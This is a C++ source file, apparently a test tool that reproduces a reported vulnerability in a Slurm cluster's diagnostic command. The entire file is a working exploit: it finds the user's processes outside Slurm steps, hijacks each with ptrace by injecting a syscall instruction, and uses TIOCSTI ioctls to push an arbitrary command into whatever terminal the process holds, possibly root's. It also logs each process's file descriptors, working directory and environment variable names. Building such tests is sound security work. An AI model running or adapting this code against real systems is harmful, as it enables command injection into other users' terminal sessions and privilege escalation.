// The attack of issue 30.1, as a test tool: run as a job's owner, outside any job, it
// finds that user's processes outside Slurm's steps (those root's `gpudiag stacks` runs
// as the owner), attaches to each with ptrace, and makes it call
// ioctl(fd, TIOCSTI, c) for every byte of a command line on fds 0, 1 and 2 and on a
// /dev/tty it opens, so that whatever terminal it holds would read the command as typed
// input. Then it kills the process (--kill) or lets it go. One JSON line per process it
// attacked: what the process held (tty_nr, session, fds, cwd, the names in its
// environment) and what each ioctl returned.
//
//   tty_inject --command 'touch /tmp/PWNED-x' [--kill] [--timeout 60]
//
// Exits once it attacked a process named srun or one of its ioctls worked (0), or at
// the timeout (2). x86_64 only: the injected instruction is `syscall`.
#include <dirent.h>
#include <fcntl.h>
#include <signal.h>
#include <sys/ioctl.h>
#include <sys/ptrace.h>
#include <sys/syscall.h>
#include <sys/user.h>
#include <sys/wait.h>
#include <termios.h>
#include <time.h>
#include <unistd.h>

#include <cerrno>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <set>
#include <string>
#include <vector>

namespace {

std::string read_file(const std::string& path) {
  FILE* f = std::fopen(path.c_str(), "r");
  if (!f) return "";
  std::string s;
  char buf[4096];
  size_t n;
  while ((n = std::fread(buf, 1, sizeof buf, f)) > 0) s.append(buf, n);
  std::fclose(f);
  return s;
}

struct Stat {
  std::string comm;
  long ppid = -1, session = -1, tty_nr = -1;
};

Stat proc_stat(long pid) {
  Stat st;
  std::string s = read_file("/proc/" + std::to_string(pid) + "/stat");
  size_t open = s.find('('), close = s.rfind(')');
  if (open == std::string::npos || close == std::string::npos) return st;
  st.comm = s.substr(open + 1, close - open - 1);
  char state;
  long pgrp;
  if (std::sscanf(s.c_str() + close + 2, "%c %ld %ld %ld %ld", &state, &st.ppid, &pgrp, &st.session, &st.tty_nr) != 5)
    st.ppid = -1;
  return st;
}

long real_uid(long pid) {
  std::string s = read_file("/proc/" + std::to_string(pid) + "/status");
  size_t at = s.find("\nUid:");
  return at == std::string::npos ? -1 : std::strtol(s.c_str() + at + 5, nullptr, 10);
}

bool inside_a_step(long pid) {
  for (int depth = 0; pid > 1 && depth < 64; ++depth) {
    Stat st = proc_stat(pid);
    if (st.comm == "slurmstepd") return true;
    pid = st.ppid;
  }
  return false;
}

std::string json_string(const std::string& s) {
  std::string out = "\"";
  for (unsigned char c : s) {
    if (c == '"' || c == '\\') out += '\\', out += static_cast<char>(c);
    else if (c < 0x20 || c >= 0x7f) {
      char b[8];
      std::snprintf(b, sizeof b, "\\u%04x", c);
      out += b;
    } else out += static_cast<char>(c);
  }
  return out + "\"";
}

class Tracee {
 public:
  explicit Tracee(pid_t pid) : pid_(pid) {}

  bool stop_here() {
    if (ptrace(PTRACE_GETREGS, pid_, nullptr, &saved_) != 0) return false;
    ip_ = saved_.rip;
    errno = 0;
    text_ = ptrace(PTRACE_PEEKTEXT, pid_, reinterpret_cast<void*>(ip_), nullptr);
    if (errno) return false;
    long with_syscall = (text_ & ~0xffffL) | 0x050f;  // 0f 05: syscall
    if (ptrace(PTRACE_POKETEXT, pid_, reinterpret_cast<void*>(ip_), reinterpret_cast<void*>(with_syscall)) != 0)
      return false;
    scratch_ = (saved_.rsp - 8192) & ~0xfUL;  // well below the red zone
    return true;
  }

  bool put(unsigned long at, const std::string& bytes) {
    std::string b = bytes;
    b.resize((b.size() + 8) & ~size_t{7}, '\0');
    for (size_t i = 0; i < b.size(); i += 8) {
      long word;
      std::memcpy(&word, b.data() + i, 8);
      if (ptrace(PTRACE_POKEDATA, pid_, reinterpret_cast<void*>(at + i), reinterpret_cast<void*>(word)) != 0)
        return false;
    }
    return true;
  }

  // The result of the system call, or -errno.
  long call(long nr, unsigned long a1, unsigned long a2, unsigned long a3) {
    user_regs_struct r = saved_;
    r.rax = static_cast<unsigned long>(nr);
    r.orig_rax = static_cast<unsigned long>(-1);  // no syscall restart on the way back to user mode
    r.rdi = a1, r.rsi = a2, r.rdx = a3;
    r.rip = ip_;
    if (ptrace(PTRACE_SETREGS, pid_, nullptr, &r) != 0) return -1000;
    for (int tries = 0; tries < 100; ++tries) {
      if (ptrace(PTRACE_SINGLESTEP, pid_, nullptr, nullptr) != 0) return -1001;
      int st = 0;
      if (waitpid(pid_, &st, __WALL) != pid_ || !WIFSTOPPED(st)) return -1002;
      if (WSTOPSIG(st) != SIGTRAP) {  // another signal arrived first: drop it, step again
        ptrace(PTRACE_SETREGS, pid_, nullptr, &r);
        continue;
      }
      user_regs_struct after;
      if (ptrace(PTRACE_GETREGS, pid_, nullptr, &after) != 0) return -1003;
      return static_cast<long>(after.rax);
    }
    return -1004;
  }

  void restore() {
    ptrace(PTRACE_POKETEXT, pid_, reinterpret_cast<void*>(ip_), reinterpret_cast<void*>(text_));
    ptrace(PTRACE_SETREGS, pid_, nullptr, &saved_);
  }

  unsigned long scratch() const { return scratch_; }

 private:
  pid_t pid_;
  user_regs_struct saved_{};
  unsigned long ip_ = 0, scratch_ = 0;
  long text_ = 0;
};

// Every byte of `line` pushed into fd's terminal: the first failure, or 0.
long push_line(Tracee& t, long fd, unsigned long line_at, size_t size) {
  for (size_t i = 0; i < size; ++i) {
    long rc = t.call(SYS_ioctl, static_cast<unsigned long>(fd), TIOCSTI, line_at + i);
    if (rc != 0) return rc;
  }
  return 0;
}

}  // namespace

int main(int argc, char** argv) {
  std::string command;
  bool kill_it = false;
  double timeout = 60;
  for (int i = 1; i < argc; ++i) {
    std::string a = argv[i];
    if (a == "--command" && i + 1 < argc) command = argv[++i];
    else if (a == "--kill") kill_it = true;
    else if (a == "--timeout" && i + 1 < argc) timeout = std::atof(argv[++i]);
    else {
      std::fprintf(stderr, "usage: tty_inject --command TEXT [--kill] [--timeout S]\n");
      return 64;
    }
  }
  if (command.empty()) return 64;
  const std::string line = command + "\n";
  const long me = getpid(), uid = getuid();
  std::set<long> done;
  timespec start{}, now{};
  clock_gettime(CLOCK_MONOTONIC, &start);
  std::fprintf(stderr, "tty_inject: watching uid %ld\n", uid);
  while (true) {
    clock_gettime(CLOCK_MONOTONIC, &now);
    if (now.tv_sec - start.tv_sec + (now.tv_nsec - start.tv_nsec) / 1e9 > timeout) return 2;
    DIR* d = opendir("/proc");
    std::vector<long> pids;
    while (dirent* e = d ? readdir(d) : nullptr) {
      char* end;
      long pid = std::strtol(e->d_name, &end, 10);
      if (*end == '\0' && pid > 0 && pid != me && !done.count(pid)) pids.push_back(pid);
    }
    if (d) closedir(d);
    for (long pid : pids) {
      if (real_uid(pid) != uid || inside_a_step(pid)) continue;
      // EPERM: not dumpable yet (between its switch to this user and its exec): next round.
      if (ptrace(PTRACE_ATTACH, pid, nullptr, nullptr) != 0) {
        if (errno != EPERM) done.insert(pid);
        continue;
      }
      done.insert(pid);
      int st = 0;
      if (waitpid(pid, &st, __WALL) != pid || !WIFSTOPPED(st)) continue;
      Stat s = proc_stat(pid);
      std::string fds;
      const std::string fd_dir = "/proc/" + std::to_string(pid) + "/fd";
      if (DIR* fd = opendir(fd_dir.c_str())) {
        while (dirent* e = readdir(fd)) {
          if (e->d_name[0] == '.') continue;
          char target[512];
          ssize_t n = readlink((fd_dir + "/" + e->d_name).c_str(), target, sizeof target - 1);
          target[n > 0 ? n : 0] = '\0';
          fds += std::string(fds.empty() ? "" : ",") + json_string(e->d_name) + ":" + json_string(target);
        }
        closedir(fd);
      }
      char cwd[512];
      ssize_t cn = readlink(("/proc/" + std::to_string(pid) + "/cwd").c_str(), cwd, sizeof cwd - 1);
      cwd[cn > 0 ? cn : 0] = '\0';
      std::string env_names, env = read_file("/proc/" + std::to_string(pid) + "/environ");
      for (size_t at = 0; at < env.size();) {
        size_t end = env.find('\0', at);
        if (end == std::string::npos) end = env.size();
        std::string entry = env.substr(at, end - at);
        env_names += std::string(env_names.empty() ? "" : ",") + json_string(entry.substr(0, entry.find('=')));
        at = end + 1;
      }
      Tracee t(static_cast<pid_t>(pid));
      long rc[4] = {-2000, -2000, -2000, -2000};
      if (t.stop_here()) {
        const unsigned long path_at = t.scratch(), line_at = t.scratch() + 64;
        if (t.put(path_at, "/dev/tty") && t.put(line_at, line)) {
          for (long fd = 0; fd < 3; ++fd) rc[fd] = push_line(t, fd, line_at, line.size());
          long tty = t.call(SYS_openat, static_cast<unsigned long>(AT_FDCWD), path_at, O_RDWR);
          rc[3] = tty;
          if (tty >= 0) {
            rc[3] = push_line(t, tty, line_at, line.size());
            t.call(SYS_close, static_cast<unsigned long>(tty), 0, 0);
          }
        }
        t.restore();
      }
      if (kill_it) ::kill(static_cast<pid_t>(pid), SIGKILL);
      else ptrace(PTRACE_DETACH, pid, nullptr, nullptr);
      std::printf("{\"pid\":%ld,\"comm\":%s,\"session\":%ld,\"tty_nr\":%ld,\"fds\":{%s},"
                  "\"cwd\":%s,\"env\":[%s],\"tiocsti\":{\"0\":%ld,\"1\":%ld,\"2\":%ld,\"/dev/tty\":%ld},\"killed\":%s}\n",
                  pid, json_string(s.comm).c_str(), s.session, s.tty_nr, fds.c_str(), json_string(cwd).c_str(),
                  env_names.c_str(), rc[0], rc[1], rc[2], rc[3],
                  kill_it ? "true" : "false");
      std::fflush(stdout);
      bool worked = rc[0] == 0 || rc[1] == 0 || rc[2] == 0 || rc[3] == 0;
      if (s.comm == "srun" || worked) return 0;
    }
    usleep(500);
  }
}
